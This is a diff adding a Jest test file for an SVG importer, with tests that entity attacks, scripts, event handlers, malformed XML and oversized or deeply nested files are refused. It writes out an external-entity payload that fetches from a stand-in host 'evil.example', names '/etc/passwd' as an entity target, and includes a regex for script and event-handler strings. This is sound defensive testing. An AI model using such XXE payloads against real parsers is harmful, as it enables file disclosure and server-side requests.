@@ -1,0 +1,95 @@
+// Hostile files: entities are never expanded nor fetched, scripts and event handlers never reach the
+// document, malformed XML is refused with its line, and the input is bounded.
+import { readFileSync } from 'node:fs';
+import { join } from 'node:path';
+import { Messages, SceneLimits } from '@wb/contracts';
+import { importSvg } from './importSvg';
+import { XmlLimits } from './xmlTree';
+
+const fixture = (name: string): string => readFileSync(join(__dirname, 'fixtures', name), 'utf8');
+const importText = (text: string) => importSvg(text, { sceneID: 'scene-1', fileName: 'hostile.svg' });
+
+describe('a file with a DTD', () => {
+  it('refuses a billion laughs without expanding it', () => {
+    const began = process.hrtime.bigint();
+    const result = importText(fixture('billion-laughs.svg'));
+    expect(result.problems).toEqual([{ message: Messages.importEntitiesRefused, where: null }]);
+    expect(JSON.stringify(result.document)).not.toContain('lollol');
+    // Expanding it would take gigabytes and minutes; refusing it takes nothing.
+    expect(Number(process.hrtime.bigint() - began) / 1e6).toBeLessThan(1000);
+  });
+
+  it('refuses an external entity without fetching it, naming its target', () => {
+    const result = importText(fixture('external-entity.svg'));
+    expect(result.problems).toEqual([{ message: Messages.importExternalEntityRefused('file:///etc/passwd'), where: null }]);
+    expect(JSON.stringify(result.document)).not.toContain('root:');
+  });
+
+  it('refuses a parameter entity pointing elsewhere', () => {
+    const text = '<!DOCTYPE svg [ <!ENTITY % remote SYSTEM "http://evil.example/x.dtd"> %remote; ]><svg/>';
+    expect(importText(text).problems).toEqual([{ message: Messages.importExternalEntityRefused('http://evil.example/x.dtd'), where: null }]);
+  });
+
+  it('reads an entity it was never told of as malformed, never as text', () => {
+    expect(importText(fixture('undeclared-entity.svg')).problems).toEqual([
+      { message: Messages.importMalformedXml(2, 48, 'undefined entity'), where: null },
+    ]);
+  });
+
+  it("takes Illustrator's plain DOCTYPE (a public id, never fetched)", () => {
+    expect(importText(fixture('valid.svg')).problems).toEqual([]);
+  });
+});
+
+describe('a file with scripts and event handlers', () => {
+  const result = importText(fixture('script-and-events.svg'));
+
+  it('imports the drawing', () => {
+    expect(result.problems).toEqual([]);
+    expect(result.document.elements.map((e) => e.name)).toEqual(['dot', 'link']);
+  });
+
+  it('keeps no script, event attribute, javascript: address or foreign HTML', () => {
+    const json = JSON.stringify(result.document);
+    expect(json).not.toMatch(/alert|javascript|onload|onclick|onmouseover|<div/i);
+  });
+});
+
+describe('a malformed file', () => {
+  it("is refused with the parser's line and column", () => {
+    expect(importText(fixture('malformed.svg')).problems).toEqual([
+      { message: Messages.importMalformedXml(4, 4, 'unexpected close tag'), where: null },
+    ]);
+  });
+
+  it('is refused when it is not XML at all', () => {
+    const [problem] = importText('this is not a drawing').problems;
+    expect(problem?.message).toMatch(/^This SVG file is not well-formed XML \(line 1, column \d+\): /);
+  });
+
+  it('is refused when it is not an SVG', () => {
+    expect(importText(fixture('not-svg.svg')).problems).toEqual([{ message: Messages.importNotSvg('html'), where: null }]);
+  });
+
+  it('is refused when empty', () => {
+    expect(importText('').problems).toHaveLength(1);
+  });
+});
+
+describe('the bounds of a file', () => {
+  it('refuses more bytes than an SVG may have', () => {
+    const text = `<svg xmlns="http://www.w3.org/2000/svg"><!--${'x'.repeat(SceneLimits.maxSvgBytes)}--></svg>`;
+    expect(importText(text).problems).toEqual([{ message: Messages.importFileTooLarge, where: null }]);
+  });
+
+  it('refuses more elements than it reads', () => {
+    const text = `<svg xmlns="http://www.w3.org/2000/svg">${'<g/>'.repeat(XmlLimits.maxElements + 1)}</svg>`;
+    expect(importText(text).problems).toEqual([{ message: Messages.importTooManyElements(XmlLimits.maxElements), where: null }]);
+  });
+
+  it('refuses groups nested deeper than it walks', () => {
+    const depth = XmlLimits.maxDepth + 1;
+    const text = `<svg xmlns="http://www.w3.org/2000/svg">${'<g>'.repeat(depth)}${'</g>'.repeat(depth)}</svg>`;
+    expect(importText(text).problems).toEqual([{ message: Messages.importTooDeep(XmlLimits.maxDepth), where: null }]);
+  });
+});
